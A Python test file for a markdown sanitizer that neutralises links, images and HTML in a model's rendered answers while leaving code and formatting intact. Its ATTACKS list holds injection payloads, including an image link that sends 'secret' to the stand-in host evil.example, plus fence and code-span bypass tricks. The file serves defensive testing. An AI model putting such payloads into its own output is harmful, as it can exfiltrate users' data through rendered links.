"""Links, pictures and HTML in a model's answer are harmless in the client that shows it; marks and code stay."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from quorum.core.harmless_markdown import HarmlessText, make_harmless

PICTURE = "![map](http://evil.example/?q=secret)"
ATTACKS = [
    PICTURE,
    "[click](http://evil.example)",
    "[![a](http://evil.example)](http://evil.example)",
    "![a][b]\n\n[b]: http://evil.example",
    "![a][b]\n\n> [b]:\n> http://evil.example",
    "[a\nb]: http://evil.example\n\n![x][a b]",
    "<img src=http://evil.example>",
    "<http://evil.example>",
    "\\\\<img src=http://evil.example>",
    "\\\\" + PICTURE,
    f"` {PICTURE}",
    f"a ` b\nc ` {PICTURE} ` d",
    f"`a\n- b {PICTURE} `",
    f"| a | b |\n|---|---|\n| ` | {PICTURE} ` |",
    f"- a\n  ```\n{PICTURE}",
    f"```\ncode\n   ```\n{PICTURE}",
    f"~~~\ncode\n```\n~~~\n{PICTURE}",
    f"```a`b\n{PICTURE}",
    f"```\rcode\r```\r{PICTURE}",
    f"``` ` ```{PICTURE}",
    f"  ~~~\n~~~\n{PICTURE}",
    f"> ```\n\n```\n{PICTURE}\n```\n{PICTURE}",
    f"- ~~~\n  a\n  ~~~\n\n~~~\n~~~\n{PICTURE}",
    f"` a | \r\nb `{PICTURE}` c `",
    f"\\` {PICTURE} `",
    "<script>x</script>",
    "<!-- a -->",
    "<!-- ` --> ![m](http://evil.example) `",
]


def render(markdown: str) -> str:
    return str(MarkdownIt("commonmark").enable("table").render(markdown))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_has_no_effect(attack: str) -> None:
    dangerous = ("<img", "<a ", "<script", "<!--")
    assert any(sign in render(attack) for sign in dangerous) or "`" in attack  # else the case shows nothing
    assert not any(sign in render(make_harmless(attack)) for sign in dangerous)


@pytest.mark.parametrize(
    "text",
    [
        "Built in 1931 [1], or 1932 [2, 3]; x < 3 and a <- b.",
        "`a[0](b)` and ``x ` <b>`` are code.",
        "Text.\n\n```html\n<a href='x'>[y](z)</a>\n```\nMore [1].",
        "~~~\n[b]: c\n~~~\n",
        "# Head\n\n- one\n- two **bold**\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        r"Already \<b> and \[a] and [x]\(y).",
    ],
)
def test_marks_and_code_are_unchanged(text: str) -> None:
    assert make_harmless(text) == text
    assert make_harmless(make_harmless(text)) == text


MARKDOWN = st.lists(
    st.sampled_from(
        [*"`~[]()<>!:\\|\n\r -a1", "](http://evil.example)", "```", "<img src=x>", "[a]: http://e", "\n\n"]
    ),
    max_size=40,
).map("".join)


@given(MARKDOWN)
def test_no_text_makes_a_link_a_picture_or_a_tag(text: str) -> None:
    rendered = render(make_harmless(text))
    assert "<img" not in rendered
    assert "<a " not in rendered


@given(MARKDOWN, st.integers(1, 7))
def test_pieces_give_the_same_text(text: str, size: int) -> None:
    stream = HarmlessText()
    shown = "".join(stream.add(text[begin : begin + size]) for begin in range(0, len(text), size)) + stream.end()
    assert shown == make_harmless(text)


def test_only_what_may_become_a_link_is_held_back() -> None:
    stream = HarmlessText()
    assert [stream.add(piece) for piece in ("See [1", "]", " and ", "[a]", "(b)", " `x", "` ", "<", "3")] == [
        *("See [1", "", "] and ", "[a", r"]\(b)", " ", "`x` ", "", "<3")
    ]
